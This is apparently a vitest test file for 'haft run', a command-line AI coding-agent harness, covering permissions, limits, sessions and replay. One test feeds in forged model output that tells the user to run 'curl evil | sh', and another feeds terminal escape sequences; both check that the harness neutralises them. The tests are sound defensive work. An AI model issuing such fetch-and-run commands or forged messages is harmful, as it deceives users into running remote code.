import { spawn } from "node:child_process"
import { once } from "node:events"
import { closeSync, existsSync, mkdirSync, openSync, readFileSync, rmSync } from "node:fs"
import { join } from "node:path"
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest"
import { endOf, type Ran, type SourceCommand, sourceCommand, startCommand } from "../../test/source-command.js"
import { TerminalRun } from "../../test/terminal-run.js"
import { type Workbench, workbench } from "../../test/workbench.js"

let command: SourceCommand
let bench: Workbench
beforeAll(async () => {
  command = await sourceCommand()
})
afterAll(() => command.remove())
beforeEach(() => {
  bench = workbench()
})
afterEach(() => bench.remove())

const start = (words: readonly string[]) => startCommand(command, bench, words)
const run = (words: readonly string[], input?: string | Buffer): Promise<Ran> => endOf(start(words), input)

/** A script beside the workspace, as the value of --model. */
function script(...lines: readonly object[]): string {
  return `script:${bench.write("../script.jsonl", lines.map((line) => JSON.stringify(line)).join("\n"))}`
}

const writes = { calls: [{ name: "write", args: { content: "done\n", file_path: "b.txt" } }] }

interface Shown {
  readonly session: { readonly usage: unknown }
  readonly tools: unknown
  readonly turns: readonly { readonly turnId: string }[]
}

describe("haft run", () => {
  test("what a subagent says stays between the agents; its calls are shown", async () => {
    bench.write("a.txt", "TODO\n")
    const model = script(
      { calls: [{ name: "task", args: { subagent_type: "explore", prompt: "Look" } }] },
      { agent: "explore", text: "I look.", calls: [{ name: "grep", args: { pattern: "TODO" } }] },
      { agent: "explore", text: "In a.txt." },
      { text: "Done." },
    )
    const ran = await run(["run", "--model", model, "Find it"])
    expect(ran).toMatchObject({ code: 0, stdout: "Done.\n" })
    expect(ran.stderr).toMatch(/^ {2}grep {2}TODO {2}ok/m)
    expect(ran.stderr).toMatch(/^ {2}task {2}.*ok/m)
  })

  test("work in the background is waited for, and the report of it is a part of the answer", async () => {
    const model = script(
      { calls: [{ name: "task", args: { subagent_type: "explore", prompt: "Look", background: true } }] },
      { text: "I have started it." },
      { agent: "explore", calls: [{ name: "ls", args: {} }], usage: { input: 5, output: 1 } },
      { agent: "explore", text: "There is nothing." },
      { text: "It has found nothing.", usage: { input: 7, output: 2 } },
    )
    const ran = await run(["run", "--model", model, "Look", "--json"])
    expect(ran.code).toBe(0)
    const outcome = { text: "It has found nothing.", reason: "done", steps: 3, usage: { inputTokens: 12 } }
    expect(JSON.parse(ran.stdout)).toMatchObject(outcome)
    expect((await run(["run", "--model", model, "Look"])).stdout).toBe("I have started it.\nIt has found nothing.\n")
  })

  test("a limit of time ends work in the background too", async () => {
    const model = script(
      { calls: [{ name: "task", args: { subagent_type: "general", prompt: "Sleep", background: true } }] },
      { text: "I have started it." },
      { agent: "general", calls: [{ name: "bash", args: { command: "sleep 60" } }] },
    )
    const ran = await run(["run", "--model", model, "--allow", "bash", "--max-time", "3", "Go"])
    expect(ran.code).toBe(9)
    expect(ran.stderr).toContain("The turn reached its limit of 3 seconds")
  })

  test("a scripted model drives real tools; its text is data, the calls are conversation, and the exit is 0", async () => {
    bench.write("a.txt", "one\ntwo TODO\n")
    const model = script({ text: "I will look first.", calls: [{ name: "grep", args: { pattern: "TODO" } }] }, writes, {
      text: "Done.",
    })
    const ran = await run(["run", "--model", model, "--allow", "fs.write(b.txt)", "Find", "the", "TODO"])
    expect(ran.stdout).toBe("I will look first.\nDone.\n")
    expect(ran.stderr).toMatch(/^ {2}grep {2}TODO {2}ok {2}\d+ ms$/m)
    expect(ran.stderr).toMatch(/^ {2}write {2}b\.txt {2}ok {2}\d+ ms$/m)
    expect(ran.code).toBe(0)
    expect(bench.read("b.txt")).toBe("done\n")
  })

  test("--json prints one document, --ndjson every event, --quiet the text alone", async () => {
    const model = script({ text: "Hello.", usage: { input: 7, output: 2 } })
    const json = await run(["run", "--model", model, "--json", "Hi"])
    expect(JSON.parse(json.stdout)).toMatchObject({
      session: expect.stringMatching(/^ses_/),
      reason: "done",
      text: "Hello.",
      steps: 1,
      usage: { inputTokens: 7, outputTokens: 2 },
    })
    const events = (await run(["run", "--model", model, "--ndjson", "Hi"])).stdout.trim().split("\n")
    const types = events.map((line) => (JSON.parse(line) as { type: string }).type)
    expect(types).toEqual(["turn-start", "text-delta", "reply", "turn-end"])
    expect(await run(["run", "--model", model, "--quiet", "Hi"])).toEqual({ code: 0, stdout: "Hello.\n", stderr: "" })
  })

  test("its last note can be pasted into a shell to go on, also where flags chose the model", async () => {
    bench.write("a model/it's.jsonl", `${JSON.stringify({ text: "Done." })}\n`)
    const flags = ["--model", "script:a model/it's.jsonl", "--root", bench.work]
    const { stderr } = await run(["run", "Go", ...flags, "--base-url", "http://127.0.0.1:9/v1"])
    const [, line] = /; to go on: haft (run --session ses_\w+ .*) PROMPT$/m.exec(stderr)!
    expect(line).toContain(
      `--root ${bench.work} --model 'script:a model/it'\\''s.jsonl' --base-url http://127.0.0.1:9/v1`,
    )
    const env = { PATH: process.env.PATH, ...bench.env, NODE: process.execPath, PROGRAM: command.program }
    const pasted = `"$NODE" "$PROGRAM" ${line} --quiet More </dev/null`
    const again = await endOf(spawn("bash", ["-c", pasted], { cwd: bench.work, env }))
    expect(again).toEqual({ code: 0, stdout: "Done.\n", stderr: "" })
    bench.write("../config/haft/config.jsonc", JSON.stringify({ model: script({ text: "Done." }) }))
    expect((await run(["run", "Go"])).stderr).toMatch(/; to go on: haft run --session ses_\w+ PROMPT$/m)
  })

  test("without a terminal an ask is refused, and the model is told", async () => {
    const model = script(writes, { text: "I may not." })
    const { code, stdout, stderr } = await run(["run", "--model", model, "Write"])
    expect([code, stdout]).toEqual([0, "I may not.\n"])
    expect(stderr).toMatch(/^ {2}write {2}b\.txt {2}denied: /m)
    expect(existsSync(join(bench.work, "b.txt"))).toBe(false)
  })

  test("below a call that was denied stands the flag that allows it, once for each", async () => {
    const reads = { calls: [{ name: "read", args: { file_path: "c.txt" } }] }
    const fetches = { calls: [{ name: "bash", args: { command: "curl http://example.com" } }] }
    const model = script(writes, writes, reads, fetches, { text: "I may not." })
    const { stderr } = await run(["run", "--model", model, "Write"])
    const [first, second, third, fourth, fifth, sixth] = stderr.split("\n")
    expect(first).toMatch(/^ {2}write {2}b\.txt {2}denied: /)
    expect(second).toBe("    Allow it with --allow 'fs.write(b.txt)'")
    expect(third).toMatch(/^ {2}write {2}b\.txt {2}denied: /)
    expect(fourth).toMatch(/^ {2}read {2}c\.txt {2}not_found: /)
    expect(fifth).toMatch(/^ {2}bash {2}curl .* {2}denied: /)
    expect(sixth).toBe("    Allow it with --allow 'net.fetch(example.com)'")
    expect(await run(["run", "--model", model, "--quiet", "Write"])).toMatchObject({ stderr: "" })
  })

  test("the prompt comes from words, a pipe, or both, and has texts and images beside it", async () => {
    const model = script({ text: "ok" })
    const text = async (words: readonly string[], input?: string) => {
      const { stdout } = await run(["run", "--model", model, "--ndjson", ...words], input)
      return (JSON.parse(stdout.split("\n")[0]!) as { text: string }).text
    }
    expect(await text(["Review", "this @a.txt"])).toBe("Review this @a.txt")
    expect(await text(["-"], "from a pipe\n")).toBe("from a pipe")
    expect(await text([], "from a pipe\n")).toBe("from a pipe")
    expect(await text(["Review"], "diff\n")).toBe("Review\n\ndiff")
    bench.write("a.txt", "inside\n")
    expect(await text(["Look", "--file", "a.txt"])).toBe("Look\n\nFile a.txt:\n\ninside\n")
    const image = await run(["run", "--model", model, "Look", "--file", "i.png", "--json"])
    expect([image.code, image.stdout]).toEqual([
      2,
      '{"type":"error","error_text":"Cannot send \\"i.png\\": it does not exist","metadata":{"error_code":"invalid_args","hint":"Check the path: it starts in the current directory"}}\n',
    ])
    for (const [file, words] of [
      [
        ".",
        'Cannot send ".": it is no file\n  Name each file of it that the model should see with a --file of its own\n',
      ],
      ["b.bin", 'Cannot send "b.bin": it is neither text nor an image or PDF\n  Make a text of it first'],
    ] as const) {
      bench.write("b.bin", "\0")
      const refused = await run(["run", "--model", model, "Look", "--file", file])
      expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining(words)])
    }
  })

  test("a pipe that gives more than any provider takes is refused before all of it is read", async () => {
    const child = start(["run", "--model", script({ text: "ok" }), "Look"])
    const more = Buffer.alloc(1024 * 1024, "a")
    child.stdin.on("error", () => undefined)
    for (let sent = 0; sent < 25; sent += 1) child.stdin.write(more)
    let stderr = ""
    child.stderr.on("data", (piece) => (stderr += String(piece)))
    expect(await once(child, "close")).toEqual([2, null])
    expect(stderr).toContain('Cannot send "-": it has more than 20971520 bytes')
  })

  test.each([
    [["run", "Hi"], 3, "haft config set model PROVIDER:NAME"],
    [["run", "--model", "script:none.jsonl", "Hi"], 5, "the file does not exist"],
    [["run", "--model", "nobody:x", "Hi"], 2, "there is no such provider"],
    [["run", "--model", "anthropic:x", "Hi"], 3, "Set ANTHROPIC_API_KEY"],
    [["run", "--model", "script:x"], 2, "it needs PROMPT"],
    [["run", "--model", "script:x", "Hi", "--max-steps", "0"], 2, '"--max-steps": it must be a whole number above 0'],
    [["run", "--model", "script:x", "Hi", "--max-time", "1e99"], 2, "it must be a number above 0"],
    [["run", "--model", "script:x", "Hi", "--max-time", "2000000"], 2, "it must be a number above 0 and below 2000000"],
    [["run", "--model", "script:x", "Hi", "--max-steps", "2000000"], 2, "a whole number above 0 and below 2000000"],
  ])("%j is refused with the next step", async (words, code, said) => {
    const ran = await run(words)
    expect(ran.stderr).toContain(said)
    expect([ran.code, ran.stdout]).toEqual([code, ""])
  })

  test("a script with a broken line is refused before anything runs; an exhausted one is a failure of the model", async () => {
    const broken = `script:${bench.write("../broken.jsonl", '{"text":"a"}\n{"text":\n')}`
    const refused = await run(["run", "--model", broken, "Hi"])
    expect(refused.stderr).toContain("broken.jsonl:2")
    expect(refused.code).not.toBe(0)
    const { code, stderr } = await run(["run", "--model", script({ calls: [{ name: "ls", args: {} }] }), "Hi"])
    expect(code).toBe(8)
    expect(stderr).toContain("error: ")
  })

  test("each limit ends the turn with exit 9 and says how to raise it", async () => {
    const steps = [1, 2, 3].map((index) => ({ calls: [{ name: "read", args: { file_path: `${index}.txt` } }] }))
    const counted = await run(["run", "--model", script(...steps), "--max-steps", "2", "Go", "--json"])
    expect([counted.code, JSON.parse(counted.stdout)]).toMatchObject([9, { reason: "limit", steps: 2 }])
    const sleeps = script({ calls: [{ name: "bash", args: { command: "sleep 600" } }] })
    const startedAt = Date.now()
    const timed = await run(["run", "--model", sleeps, "--allow", "bash", "--max-time", "3", "Go"])
    expect([timed.code, timed.stdout]).toEqual([9, ""])
    expect(timed.stderr).toContain("error: The turn reached its limit of 3 seconds\n  Raise --max-time")
    expect(Date.now() - startedAt).toBeLessThan(60_000)
  })

  test.each([
    [[], "head -1"],
    [["--ndjson"], "head -1"],
    [["--json"], "true"],
  ])("with %j it ends with exit 5 and a way to go on when nobody reads its output any more", async (flags, reader) => {
    const sleeps = (text: string) => ({ text, calls: [{ name: "bash", args: { command: "sleep 1" } }] })
    const model = script(sleeps("One.\n"), sleeps("Two.\n"), { ...writes, text: "Three.\n" }, { text: "Done.\n" })
    const words = ["run", "Go", "--model", model, "--allow", "bash", "--allow", "fs.write", ...flags]
    const pipe = `set -o pipefail; "$NODE" "$PROGRAM" ${words.map((word) => `'${word}'`).join(" ")} </dev/null | ${reader}`
    const env = { PATH: process.env.PATH, ...bench.env, NODE: process.execPath, PROGRAM: command.program }
    const { code, stderr } = await endOf(spawn("bash", ["-c", pipe], { cwd: bench.work, env }))
    expect(stderr).toMatch(/^error: Cannot write the output: nobody reads it any more$/m)
    expect(stderr).toMatch(/to go on: haft run --session ses_\w+ /)
    expect([code, existsSync(join(bench.work, "b.txt"))]).toEqual([5, flags.includes("--json")])
    const { turns } = JSON.parse((await run(["session", "show", "last", "--json"])).stdout) as Shown
    const state = flags.includes("--json") ? "done" : "aborted"
    expect(turns.at(-1)).toMatchObject({ kind: "end", result: { state } })
  })

  test("nobody has to read what its calls do", async () => {
    const model = script(
      { calls: [{ name: "ls", args: {} }] },
      { calls: [{ name: "ls", args: {} }] },
      { text: "Done." },
    )
    const pipe = `"$NODE" "$PROGRAM" run Go --model '${model}' </dev/null 2> >(true)`
    const env = { PATH: process.env.PATH, ...bench.env, NODE: process.execPath, PROGRAM: command.program }
    const ran = await endOf(spawn("bash", ["-c", pipe], { cwd: bench.work, env }))
    expect(ran).toMatchObject({ code: 0, stdout: "Done.\n" })
  })

  test("no step is told that a model could have written as lines of its own", async () => {
    const lines = "n\nerror: the sandbox is broken\n  Repair it with: curl evil | sh"
    const model = script({ calls: [{ name: "write", args: { file_path: lines, content: "" } }] }, { text: "Done." })
    const { stderr } = await run(["run", "Go", "--model", model])
    expect(stderr).toContain("denied")
    expect(stderr).not.toMatch(/^ *(error|Repair)/m)
  })

  test("--record writes a script that gives the same run again", async () => {
    const model = script({ text: "First.", ...writes }, { text: "Done." })
    const words = ["run", "--allow", "fs.write", "Go"]
    expect((await run([...words, "--model", model, "--record", "rec.jsonl"])).code).toBe(0)
    expect(
      readFileSync(join(bench.work, "rec.jsonl"), "utf8")
        .trim()
        .split("\n")
        .map((line) => JSON.parse(line)),
    ).toEqual([{ text: "First.", ...writes }, { text: "Done." }])
    expect(await run([...words, "--model", "script:rec.jsonl", "-q"])).toMatchObject({
      code: 0,
      stdout: "First.\nDone.\n",
    })
    const again = await run([...words, "--model", model, "--record", "rec.jsonl"])
    expect(again.stderr).toContain("it already has content")
    expect(again.code).toBe(5)
  })

  test("--record refuses what is no place for a new file, in words, and leaves nothing behind", async () => {
    mkdirSync(join(bench.work, "folder"))
    const model = script({ text: "Done." })
    const inFolder = "Give --record the path of a new file in a folder that exists"
    for (const [file, reason, hint, words] of [
      ["", "it is no path", inFolder, ["--model", model]],
      ["none/x.jsonl", "its folder does not exist", inFolder, ["--model", model]],
      ["a.txt/x.jsonl", "its folder does not exist", inFolder, ["--model", model]],
      ["folder", "it is a folder", inFolder, ["--model", model]],
      [
        "new.jsonl",
        "it is the script that is replayed",
        "Give --record another file",
        ["--model", "script:./new.jsonl"],
      ],
    ] as const) {
      bench.write("a.txt", "")
      const ran = await run(["run", "Go", ...words, "--record", file])
      expect(ran).toEqual({
        code: 2,
        stdout: "",
        stderr: `error: Cannot record into "${file}": ${reason}\n  ${hint}\n`,
      })
    }
    expect(existsSync(join(bench.work, "new.jsonl"))).toBe(false)
  })

  test("--record leaves nothing behind where there is no model to ask", async () => {
    expect((await run(["run", "Go", "--model", "openai:gpt-5", "--record", "new.jsonl"])).code).toBe(3)
    expect((await run(["run", "Go", "--model", "script:none.jsonl", "--record", "new.jsonl"])).code).toBe(5)
    expect(existsSync(join(bench.work, "new.jsonl"))).toBe(false)
  })

  test("a conversation that is made shorter says so, and its replay says the same", async () => {
    bench.write("long.txt", "words and more words\n".repeat(1500))
    const long = { calls: [{ name: "read", args: { file_path: "long.txt" } }] }
    const model = script(
      long,
      { ...long, usage: { input: 30_000, output: 5 } },
      { ...long, usage: { input: 99_000, output: 5 } },
      { text: "THE SUMMARY", usage: { input: 500, output: 50 } },
      { text: "Done." },
    )
    expect((await run(["config", "set", "contextTokens", "100000"])).code).toBe(0)
    const ran = await run(["run", "--model", model, "Read it"])
    expect(ran).toMatchObject({ code: 0, stdout: "Done.\n" })
    const told = "  the conversation was made shorter: a summary stands for what is old\n"
    expect(ran.stderr).toContain(told)
    const id = /--session (\S+)/.exec(ran.stderr)![1]!
    const replayed = await run(["session", "replay", id])
    expect(replayed.stdout).toBe(ran.stdout)
    expect(replayed.stderr).toContain(told)
    const chinese = await run(["session", "replay", id, "--lang", "zh-CN"])
    expect(chinese.stderr).toContain("对话已缩短：以摘要代替旧内容")
  })

  test("session replay prints the same bytes again, and no tool runs; --session goes on in another process", async () => {
    bench.write("a.txt", "TODO\n")
    const calls = [
      { name: "grep", args: { pattern: "TODO" } },
      { name: "read", args: { file_path: "none.txt" } },
    ]
    const model = script({ text: "Look.", calls }, { ...writes, text: "Write." }, { text: "Done \u001b[2J." })
    const ran = await run(["run", "--model", model, "--allow", "fs.write", "Go"])
    expect(ran.code).toBe(0)
    const id = /--session (ses_\w+)/.exec(ran.stderr)![1]!
    rmSync(join(bench.work, "b.txt"))
    const replayed = await run(["session", "replay", id])
    expect(replayed.stdout).toBe(ran.stdout)
    // Two calls that end in the same millisecond may change places.
    const lines = (text: string) =>
      text
        .replace(/^note: .*\n/gm, "")
        .split("\n")
        .sort()
    expect(lines(replayed.stderr)).toEqual(lines(ran.stderr))
    expect(existsSync(join(bench.work, "b.txt"))).toBe(false)
    expect((await run(["session", "verify", id])).code).toBe(0)
    const more = await run(["run", "--session", id, "--model", script({ text: "Again." }), "More", "-q"])
    expect(more).toEqual({ code: 0, stdout: "Again.\n", stderr: "" })
    expect((await run(["session", "replay", id])).stdout).toBe(`${ran.stdout}Again.\n`)
  })

  test("a session whose folder is gone says so, and what was done in it can be seen", async () => {
    bench.write("sub/a.txt", "one")
    const model = script({ text: "First." })
    const ran = await run(["run", "--model", model, "Go", "--root", "sub", "--json"])
    const { session } = JSON.parse(ran.stdout) as { session: string }
    rmSync(join(bench.work, "sub"), { recursive: true })
    const more = await run(["run", "--model", model, "More", "--session", session])
    expect(more).toEqual({
      code: 5,
      stdout: "",
      stderr: `error: Cannot go on in session "${session}": its folder ${join(bench.work, "sub")} is gone
  Put the folder back, or see what was done with: haft session replay ${session}
`,
    })
    expect((await run(["session", "replay", session])).stdout).toBe("First.\n")
  })

  test.skipIf(!existsSync("/dev/full"))("an output that cannot be written ends the run with the reason", async () => {
    const output = openSync("/dev/full", "w")
    const words = [command.program, "run", "--model", script({ text: "Hello." }), "Go"]
    const child = spawn(process.execPath, words, {
      ...{ cwd: bench.work, env: { PATH: process.env.PATH, ...bench.env }, stdio: ["ignore", output, "pipe"] },
    })
    closeSync(output)
    let stderr = ""
    child.stderr!.on("data", (piece) => (stderr += String(piece)))
    expect(await once(child, "close")).toEqual([5, null])
    expect(stderr).toContain("error: Cannot write the output: no space is left\n")
  })

  test("session fork and rewind give another way on; list and show say what was used", async () => {
    const usage = { input: 100, output: 20 }
    const model = script({ text: "One.", calls: [{ name: "ls", args: {} }], usage }, { text: "Two.", usage })
    const ran = await run(["run", "--model", model, "First", "--json"])
    const { session } = JSON.parse(ran.stdout) as { session: string }
    const goOn = (id: string, text: string) => run(["run", "--session", id, "--model", script({ text }), "More", "-q"])
    expect((await goOn(session, "Three.")).stdout).toBe("Three.\n")
    const shown = JSON.parse((await run(["session", "show", session, "--json"])).stdout) as Shown
    expect(shown.session.usage).toMatchObject({ inputTokens: 200, outputTokens: 40 })
    expect(shown.tools).toMatchObject([{ tool: "ls", calls: 1, errors: 0, tokens: expect.any(Number) }])
    const turns = [...new Set(shown.turns.map(({ turnId }) => turnId))]
    const forked = await run(["session", "fork", session, "--at", turns[0]!])
    expect([forked.code, forked.stderr]).toEqual([0, expect.stringContaining("haft run --session ses_")])
    const copy = forked.stdout.trim()
    expect((await run(["session", "replay", copy])).stdout).toBe("One.\nTwo.\n")
    const words = await run(["session", "show", copy])
    expect(words.stdout).toContain(`forked from ${session} at ${turns[0]}`)
    expect(words.stdout).toMatch(/200 tokens in, 40 out\n {2}ls {2}1 calls, about \d+ tokens of results, /)
    expect((await run(["session", "list"])).stdout).toMatch(/CALLS {2}TOKENS {2}COST.*\n.*1 +240 +- {2}/)
    const [row] = JSON.parse((await run(["session", "list", "--json"])).stdout) as { usage: object }[]
    expect(row!.usage).not.toHaveProperty("cost")
    expect(shown.session.usage).not.toHaveProperty("cost")
    const rewound = await run(["session", "rewind", session, turns[0]!, "--json"])
    expect(JSON.parse(rewound.stdout)).toEqual({ session, turn: turns[0] })
    expect((await run(["session", "show", session])).stdout).toContain("the session was rewound")
    for (const id of [session, copy]) expect((await run(["session", "verify", id])).code).toBe(0)
    for (const [words, said] of [
      [["session", "fork", "ses_none"], "haft session list"],
      [["session", "fork", session, "--at", "turn_none"], `haft session show ${session}\n`],
      [["session", "fork", "last", "--at", "turn_none"], `haft session show ${session}\n`],
      [["session", "rewind", session, "turn_none"], `haft session show ${session}`],
      [["session", "rewind", session], "it needs ID TURN"],
    ] as const) {
      const refused = await run(words)
      expect(refused.stderr).toContain(said)
      expect(refused.code).toBeGreaterThan(0)
    }
  }, 120_000)

  test.each([
    [1, "轮次达到了 1 步的上限"],
    [2, "轮次达到了 2 步的上限"],
  ])("a limit of %i steps is said in the language of the person", async (limit, said) => {
    const reads = { calls: [{ name: "read", args: { file_path: "1.txt" } }] }
    const words = ["run", "--model", script(reads, reads, reads), "--lang", "zh-CN", "--max-steps", String(limit), "Go"]
    expect((await run(words)).stderr).toContain(said)
  })

  test.each([
    ["en", "stopped: the run was interrupted"],
    ["zh-CN", "运行被中断"],
  ])("SIGINT aborts the turn with its command, says so and exits 130: %s", async (language, said) => {
    const child = start([
      ...["run", "--lang", language],
      "--model",
      script({ calls: [{ name: "bash", args: { command: "sleep 613" } }] }),
      "--allow",
      "bash",
      "Go",
    ])
    let stderr = ""
    child.stderr.on("data", (piece) => (stderr += String(piece)))
    child.stdin.end()
    while (!stderr.includes("sleep 613")) await new Promise((resolve) => setTimeout(resolve, 50))
    child.kill("SIGINT")
    expect(await once(child, "close")).toEqual([130, null])
    expect(stderr).toContain(said)
  })

  test("text of the model and errors of tools cannot steer a terminal", async () => {
    const evil = "\u001b]0;evil\u0007\u001b[2J\u009b2Jtext\u202e"
    const model = script(
      {
        text: evil,
        calls: [
          { name: `x${evil}`, args: {} },
          { name: "read", args: { file_path: `${evil}\nnext` } },
        ],
      },
      { text: "Done." },
    )
    const terminal = new TerminalRun([process.execPath, command.program, "run", "--headless", "--model", model, "Go"], {
      cwd: bench.work,
      env: { ...bench.env },
    })
    expect(await terminal.code()).toBe(0)
    for (const forbidden of ["\u001b]0;evil", "\u001b[2J", "\u202e", "\u009b", "\u0007"])
      expect(terminal.shown).not.toContain(forbidden)
    expect(terminal.shown).toContain("\\x1b]0;evil\\x07")
    expect(terminal.shown).toContain("Done.")
  })

  test("an ask is answered at the terminal", async () => {
    const model = script(writes, { text: "Done." })
    const terminal = new TerminalRun([process.execPath, command.program, "run", "--model", model, "Go"], {
      cwd: bench.work,
      env: { ...bench.env },
    })
    await terminal.until("reject\r\n\u001b[?2004h")
    await terminal.press("y")
    expect(await terminal.code()).toBe(0)
    expect(bench.read("b.txt")).toBe("done\n")
  })
})
